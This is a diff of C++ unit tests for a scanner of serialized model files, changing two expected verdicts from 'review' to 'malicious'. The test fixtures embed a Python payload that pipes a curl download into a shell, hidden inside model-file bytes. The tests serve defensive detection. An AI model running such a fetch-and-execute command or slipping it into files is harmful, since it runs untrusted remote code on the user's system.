@@ -51,7 +51,7 @@ TEST(Flax, arrays_and_texts_are_clean_and_the_rest_is_told) {
   EXPECT_EQ(small_scan(fine).verdict, ScanVerdict::clean);
   EXPECT_EQ(small_scan("\x81\xa6params\xc7\x01\x09x"s).verdict, ScanVerdict::review);
   EXPECT_EQ(small_scan("\x81\xa6params\xd9\x24import os; os.system('curl x | sh');"s + " ").verdict,
-            ScanVerdict::review);
+            ScanVerdict::malicious);
   EXPECT_EQ(small_scan(fine + "x").verdict, ScanVerdict::review);
   for (std::size_t cut = 4; cut < fine.size(); ++cut)
     EXPECT_NE(small_scan(fine.substr(0, cut)).verdict, ScanVerdict::clean) << cut;
@@ -116,7 +116,7 @@ TEST(Opaque, what_nobody_can_look_into_is_said_to_be_so) {
   EXPECT_EQ(small_scan(cat, "m.cbm").verdict, ScanVerdict::clean);
   EXPECT_EQ(small_scan(cat.substr(0, 30), "m.cbm").verdict, ScanVerdict::malformed);
   EXPECT_EQ(small_scan("RKNN"s + std::string(20, '\0') + "import os; os.system('curl http://x | sh')").verdict,
-            ScanVerdict::review);
+            ScanVerdict::malicious);
 }
 
 }  // namespace
